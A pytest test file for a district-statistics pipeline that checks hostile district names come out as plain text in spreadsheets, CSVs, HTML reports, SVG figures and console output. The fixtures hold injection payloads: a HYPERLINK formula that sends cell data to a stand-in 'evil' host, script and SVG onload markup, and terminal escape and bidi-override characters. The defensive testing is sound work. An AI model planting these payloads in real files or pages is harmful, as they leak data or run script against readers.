"""District names and ids that attack the readers of the published files: spreadsheet formulas, mathtext,
HTML/SVG markup, terminal escapes, bidirectional overrides. The whole pipeline runs on them; every
output format must show them as plain text."""

from __future__ import annotations

import csv
import io
import re
import xml.etree.ElementTree as ET
from datetime import date

import geopandas as gpd
import pytest
import shapely
from openpyxl import load_workbook

from conftest import ORIGIN, REFERENCE_DATE, SIDE, person, write_extract
from quarterstats.paths import ProjectPaths
from quarterstats.safe_text import FORMULA_TRIGGERS, display_text, is_formula_like

#: (district id, district name): every attack of the list in the name, several in the id as well.
HOSTILE = [
    ("=1+1", '=HYPERLINK("http://evil/?"&A1,"x")'),
    ("+2", "+SUM(1)"),
    ("-3", "-2+3"),
    ("@4", "@cmd"),
    ("$5$", "$\\alpha$ x"),
    ("<i>6", "<script>alert(1)</script>"),
    ("</svg>7", "</svg><svg onload=alert(1)>"),
    ("8", "Nord\x1b[31m rot\u202eSüd"),
    ("\t9", "\tTab"),
    ("10", "Preis $x^$ Ost"),  # not even valid mathtext: drawing it as mathtext raises
]


def _hostile_project(root):
    columns = 5
    ids, names, geoms, rows = [], [], [], []
    for k, (district_id, name) in enumerate(HOSTILE):
        col, row = k % columns, k // columns
        x0, y0 = ORIGIN[0] + col * SIDE, ORIGIN[1] + row * SIDE
        ids.append(district_id)
        names.append(name)
        geoms.append(shapely.box(x0, y0, x0 + SIDE, y0 + SIDE))
        for j in range(40):
            extra = dict(nationality_1="TUR", german_acquisition=None, birth_country="TUR",
                         origin_country="TUR") if j < 8 + k else {}
            rows.append(person(f"pseudo{k:02d}{j:03d}", x=x0 + SIDE / 2, y=y0 + SIDE / 2, age=1 + (j * 7) % 89,
                               sex="mw"[j % 2], household_id=f"haus{k:02d}{j // 2:03d}",
                               moved_in_address=date(2019, 1, 1), **extra))
    raw = root / "data" / "raw"
    write_extract(rows, raw / "register" / f"{REFERENCE_DATE}.parquet")
    (raw / "boundaries").mkdir(parents=True)
    gpd.GeoDataFrame({"district_id": ids, "name": names}, geometry=geoms, crs="EPSG:25832").to_file(
        raw / "boundaries" / "districts.gpkg", layer="districts", driver="GPKG")
    return root


@pytest.fixture(scope="module")
def hostile_project(tmp_path_factory):
    import os

    from pipelines.runner import materialize_all

    root = tmp_path_factory.mktemp("hostile")
    os.environ["DAGSTER_HOME"] = str(root / "dagster_home")
    project = _hostile_project(root)
    messages: list[str] = []
    outcome = materialize_all(project, progress=messages.append)
    assert outcome.ok, outcome.message
    return project, messages


def _text_neutralised(text: str) -> bool:
    return not is_formula_like(text)


def test_workbooks_hold_no_formula_and_formula_like_text_is_quoted(hostile_project):
    project, _ = hostile_project
    workbooks = sorted(ProjectPaths.from_workdir(project).reports.rglob("*.xlsx"))
    assert len(workbooks) == 2  # tabellen.xlsx and zeitreihe.xlsx
    seen = set()
    for path in workbooks:
        for ws in load_workbook(path).worksheets:
            for row in ws.iter_rows():
                for cell in row:
                    assert cell.data_type != "f", (path.name, ws.title, cell.coordinate, cell.value)
                    if isinstance(cell.value, str):
                        seen.add(cell.value)
                        if is_formula_like(cell.value):
                            assert cell.quotePrefix, (path.name, ws.title, cell.coordinate, cell.value)
    # the names are there, as text: formula-like ones quoted, the escape sequence made visible
    assert '=HYPERLINK("http://evil/?"&A1,"x")' in seen and "+SUM(1)" in seen and "-2+3" in seen
    assert display_text("Nord\x1b[31m rot\u202eSüd") in seen


def test_csv_text_fields_starting_with_a_trigger_are_quoted(hostile_project):
    project, _ = hostile_project
    files = sorted(ProjectPaths.from_workdir(project).reports.rglob("*.csv"))
    assert {"indikatoren.csv", "indikatoren_de.csv", "alterspyramide.csv", "alterspyramide_de.csv",
            "zeitreihe.csv", "zeitreihe_de.csv"} <= {p.name for p in files}
    quoted = set()
    for path in files:
        german = path.name.endswith("_de.csv") or path.name == "zeichenerklaerung.csv"
        text = path.read_text(encoding="utf-8-sig" if german else "utf-8")
        for record in csv.reader(io.StringIO(text, newline=""), delimiter=";" if german else ","):
            for field in record:
                if field[:1] in FORMULA_TRIGGERS:
                    float(field.replace(".", "").replace(",", ".") if german else field)  # only a number may
                    # start with "-" or "+"
                if field.startswith("'"):
                    quoted.add(field)
    assert {"'=HYPERLINK(\"http://evil/?\"&A1,\"x\")", "'+SUM(1)", "'-2+3", "'@cmd", "'\tTab"} <= quoted
    assert {"'=1+1", "'+2", "'-3", "'@4"} <= quoted  # the ids too (the boundary reader strips "\t9")


def test_html_holds_no_markup_from_the_names(hostile_project):
    project, _ = hostile_project
    paths = ProjectPaths.from_workdir(project)
    for page in (paths.report_dir(REFERENCE_DATE) / "bericht.html", paths.reports / "index.html"):
        html = page.read_text(encoding="utf-8")
        assert "<script" not in html and "onload=" not in html.replace("onload=alert", "")
        assert "<svg onload" not in html and "<i>6" not in html
        assert "\x1b" not in html and "\u202e" not in html  # shown as \x1b, \u202e
    report = (paths.report_dir(REFERENCE_DATE) / "bericht.html").read_text(encoding="utf-8")
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in report
    # every district has its profile, named from its id without a character of the id that a path,
    # a URL or a shell could read; its name and id shown as text
    from quarterstats.profiles import PROFILE_DIR, profile_file_name

    folder = paths.report_dir(REFERENCE_DATE) / PROFILE_DIR
    names = sorted(p.name for p in folder.iterdir())
    assert len(names) == len(HOSTILE) + 1 and "index.html" in names
    for district_id, name in HOSTILE:
        file = profile_file_name(district_id.strip())  # the boundary reader strips "\t9"
        assert re.fullmatch(r"[a-z0-9_-]+\.html", file) and file in names, district_id
        html = (folder / file).read_text(encoding="utf-8")
        assert "<script" not in html and "<svg onload" not in html and "<i>6" not in html
        assert "\x1b" not in html and "\u202e" not in html
        assert f'href="{file}"' in (folder / "index.html").read_text(encoding="utf-8")
        assert f'href="{PROFILE_DIR}/{file}"' in report
    profile = (folder / profile_file_name("<i>6")).read_text(encoding="utf-8")
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in profile and "&lt;i&gt;6" in profile
    assert "&lt;/svg&gt;&lt;svg onload=alert(1)&gt;" in report
    assert "Nord\\x1b[31m rot\\u202eSüd" in report


def test_svgs_parse_and_show_the_names_literally(hostile_project):
    project, _ = hostile_project
    folder = ProjectPaths.from_workdir(project).report_dir(REFERENCE_DATE) / "abbildungen"
    svgs = sorted(folder.glob("*.svg"))
    pngs = sorted(folder.glob("*.png"))
    assert len(svgs) >= 10 and len(pngs) == len(svgs)  # the figures drew
    texts = []
    for svg in svgs:
        root = ET.fromstring(svg.read_bytes())  # well-formed XML, no element from a name
        tags = {element.tag.rsplit("}", 1)[-1] for element in root.iter()}
        assert "script" not in tags, svg.name
        assert sum(1 for element in root.iter() if element.tag.endswith("}svg")) == 1, svg.name
        texts.append(" ".join("".join(element.itertext()) for element in root.iter()
                              if element.tag.endswith("}text")))
    drawn = "\n".join(texts)
    for name in ("$\\alpha$ x", "Preis $x^$ Ost", "<script>alert(1)</script>", "</svg><svg onload=alert(1)>",
                 '=HYPERLINK("http://evil/?"&A1,"x")', "Nord\\x1b[31m rot\\u202eSüd", "\\x09Tab"):
        assert name in drawn, name
    assert "\x1b" not in drawn and "\u202e" not in drawn


def test_console_messages_of_the_run_are_inert(hostile_project):
    _, messages = hostile_project
    assert messages and not any("\x1b" in m or "\u202e" in m for m in messages)


# ------------------------------------------------------- each protection, and the attack without it
def _title_figure(title: str):
    from quarterstats.figures import style

    def build():
        fig = style.new_figure(8, 6)
        ax = fig.subplots()
        ax.set_title(title)
        ax.set_yticks([0, 1], ["Stadt insgesamt", title])
        return style.Drawn(fig, title, title)

    return build


def test_figures_draw_mathtext_names_literally_and_would_fail_without_it(monkeypatch):
    from quarterstats.figures import _draw, style

    rendered = _draw(_title_figure("Preis $x^$ Ost"))
    assert "Preis $x^$ Ost" in rendered.svg.decode("utf-8")
    monkeypatch.setitem(style.HOUSE_RC, "text.parse_math", True)
    with pytest.raises(ValueError):  # matplotlib's mathtext parser rejects the name
        _draw(_title_figure("Preis $x^$ Ost"))


def test_figure_text_is_inert_in_svg_and_would_break_it_without(monkeypatch):
    from quarterstats.figures import _draw, style

    name = "Nord\x1b[31m rot\u202eSüd"
    root = ET.fromstring(_draw(_title_figure(name)).svg)
    drawn = "".join(root.itertext())
    assert "Nord\\x1b[31m rot\\u202eSüd" in drawn and "\x1b" not in drawn and "\u202e" not in drawn
    monkeypatch.setattr(style, "make_text_inert", lambda fig: None)
    with pytest.raises(ET.ParseError):  # a control character is not allowed in XML
        ET.fromstring(_draw(_title_figure(name)).svg)


def _one_sheet_workbook(tmp_path, text_cell):
    from openpyxl import Workbook

    wb = Workbook(write_only=True)
    ws = wb.create_sheet("Test")
    ws.append([text_cell(ws, "=1+1"), text_cell(ws, '=HYPERLINK("http://evil/?"&A1,"x")')])
    ws.append([text_cell(ws, "A"), text_cell(ws, "Nord")])
    wb.save(tmp_path / "t.xlsx")
    return load_workbook(tmp_path / "t.xlsx")["Test"]


def test_workbook_stores_formula_like_text_as_text_and_would_not_without(tmp_path):
    from openpyxl.cell import WriteOnlyCell

    from quarterstats.workbook import _text_cell

    ws = _one_sheet_workbook(tmp_path, _text_cell)
    assert ws["B1"].data_type == "s" and ws["B1"].quotePrefix and ws["A1"].quotePrefix
    assert ws["B2"].value == "Nord" and not ws["B2"].quotePrefix
    plain = _one_sheet_workbook(tmp_path, lambda sheet, value: WriteOnlyCell(sheet, value=value))
    assert plain["B1"].data_type == "f"  # openpyxl writes it as a formula


def test_csv_quotes_formula_like_text_and_would_not_without(tmp_path, monkeypatch):
    import pandas as pd

    from quarterstats import tables

    frame = pd.DataFrame({"district_id": pd.array(["=1+1", "-3"], dtype="string"), "value": [-1.5, 2.0]})
    tables.write_table_files(frame, tmp_path, "indikatoren")
    assert (tmp_path / "indikatoren.csv").read_text().splitlines() == ["district_id,value", "'=1+1,-1.5", "'-3,2"]
    assert pd.read_parquet(tmp_path / "indikatoren.parquet")["district_id"].tolist() == ["=1+1", "-3"]
    german = (tmp_path / "indikatoren_de.csv").read_text(encoding="utf-8-sig").splitlines()
    assert german[1].startswith("'=1+1;") and german[2].startswith("'-3;")
    monkeypatch.setattr(tables, "_csv_text", lambda f: f)
    tables.write_table_files(frame, tmp_path, "indikatoren")
    assert (tmp_path / "indikatoren.csv").read_text().splitlines()[1] == "=1+1,-1.5"


def test_report_escapes_names_and_would_not_without_autoescape(monkeypatch, hostile_project):
    import jinja2

    from quarterstats import report

    project, _ = hostile_project
    folder = ProjectPaths.from_workdir(project).report_dir(REFERENCE_DATE)
    html = (folder / "bericht.html").read_text(encoding="utf-8")
    assert "<script>" not in html
    environment = report._environment
    monkeypatch.setattr(report, "_environment", lambda: jinja2.Environment(
        loader=environment().loader, autoescape=False, undefined=jinja2.StrictUndefined))
    entries = [{"reference_date": REFERENCE_DATE, "report": None, "files": []}]
    page = report.render_index(folder, entries, city_name="<script>alert(1)</script>")
    assert "<script>alert(1)</script>" in page.read_text(encoding="utf-8")
    page.unlink()


def test_input_error_and_cli_messages_are_inert(capsys):
    from quarterstats.cli import main
    from quarterstats.errors import InputError

    error = InputError("Bezirk \x1b[2J\u202eNord unbekannt", file="data/raw/\x1b]0;evil\x07.csv",
                       column="name" + "x" * 500, rule="boundaries.id")
    shown = str(error)
    assert "\x1b" not in shown and "\u202e" not in shown and "\x07" not in shown
    assert "\\x1b[2J" in shown and "\\u202e" in shown and len(shown) < 500  # the long column name is cut
    assert error.message.startswith("Bezirk \x1b")  # the raw value stays available
    # the CLI prints every message through console_lines; here a file name with an escape sequence
    assert main(["validate", "/nonexistent/\x1b[31mextract.csv", "--date", "2020-12-31"]) == 2
    err = capsys.readouterr().err
    assert err and "\x1b" not in err and "\\x1b[31m" in err
    # the JSON report is the same JSON, with the terminal-active characters as JSON escapes
    import json

    assert main(["validate", "/nonexistent/\u202eextract.csv", "--date", "2020-12-31", "--json"]) == 2
    out = capsys.readouterr().out
    assert "\u202e" not in out and "\\u202e" in json.loads(out)["error"]["file"]
